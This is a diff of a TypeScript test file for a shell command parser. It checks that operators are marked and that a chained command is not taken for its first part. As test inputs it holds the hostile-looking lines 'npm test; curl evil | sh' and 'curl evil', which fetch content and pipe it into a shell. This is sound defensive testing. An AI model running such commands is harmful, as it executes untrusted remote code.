@@ -4,16 +4,18 @@ import { parseCommand } from './parse-command.ts'
 
 describe('a command line whose words are all known is read', () => {
   test.each([
-    ['npm test', [['npm', 'test']]],
-    [`git commit -m 'a b' "c d"`, [['git', 'commit', '-m', 'a b', 'c d']]],
-    ['a && b || c; d', [['a'], ['b'], ['c'], ['d']]],
-    ['ls -la ./src/été.ts', [['ls', '-la', './src/été.ts']]],
-    ['seq 12', [['seq', '12']]],
-    ['a\nb', [['a'], ['b']]],
-    ['npm   test ', [['npm', 'test']]],
-    [`echo ''`, [['echo', '']]],
-    ['cat a.txt | wc -l', [['cat', 'a.txt', '\0|', 'wc', '-l']]],
-    ['cd /tmp', [['cd', '/tmp']]],
+    ['npm test', ['npm', 'test']],
+    [`git commit -m 'a b' "c d"`, ['git', 'commit', '-m', 'a b', 'c d']],
+    ['a && b || c; d', ['a', '\0&&', 'b', '\0||', 'c', '\0;', 'd']],
+    ['a; b | c && d', ['a', '\0;', 'b', '\0|', 'c', '\0&&', 'd']],
+    ['a &&\n b;', ['a', '\0&&', 'b']],
+    ['ls -la ./src/été.ts', ['ls', '-la', './src/été.ts']],
+    ['seq 12', ['seq', '12']],
+    ['a\nb', ['a', '\0;', 'b']],
+    ['npm   test ', ['npm', 'test']],
+    [`echo ''`, ['echo', '']],
+    ['cat a.txt | wc -l', ['cat', 'a.txt', '\0|', 'wc', '-l']],
+    ['cd /tmp', ['cd', '/tmp']],
   ])('%s', async (line, commands) => {
     expect(await parseCommand(line)).toEqual(commands)
   })
@@ -82,15 +84,21 @@ describe('everything else matches nothing', () => {
   })
 })
 
-it('`npm test; curl evil | sh` is not `npm test`', async () => {
-  const [first] = (await parseCommand('npm test; curl evil | sh')) ?? []
-  expect(first).toEqual(['npm', 'test'])
-  expect(await parseCommand('npm test; curl evil | sh')).toHaveLength(2)
+it('`npm test; curl evil | sh` is not `npm test`, and a line is not its parts', async () => {
+  const lines = [
+    'npm test',
+    'npm test; curl evil | sh',
+    'npm test && curl evil',
+    'curl evil && npm test',
+    'curl evil',
+  ]
+  const read = await Promise.all(lines.map(async (line) => JSON.stringify(await parseCommand(line))))
+  expect(new Set(read).size).toBe(lines.length)
 })
 
 it('a quoted pipe sign is an argument, and no pipeline', async () => {
-  expect(await parseCommand(`echo '|' sh`)).toEqual([['echo', '|', 'sh']])
-  expect(await parseCommand('echo | sh')).not.toEqual(await parseCommand(`echo '|' sh`))
+  expect(await parseCommand(`echo '|' sh`)).toEqual(['echo', '|', 'sh'])
+  expect(await parseCommand('echo | sh')).toEqual(['echo', '\0|', 'sh'])
 })
 
 it('no text whatever makes it throw, and what it reads holds no sign that a shell would act on', async () => {
@@ -100,8 +108,8 @@ it('no text whatever makes it throw, and what it reads holds no sign that a shel
       const commands = await parseCommand(line)
       const quoted = /['"]/.test(line)
       if (commands !== null && !quoted) {
-        for (const word of commands.flat())
-          if (word !== '\0|') expect(word).toMatch(/^[\p{L}\p{N}_@%+=:,./-]+$/u)
+        for (const word of commands)
+          if (!word.startsWith('\0')) expect(word).toMatch(/^[\p{L}\p{N}_@%+=:,./-]+$/u)
       }
     }),
     { numRuns: 2000 },
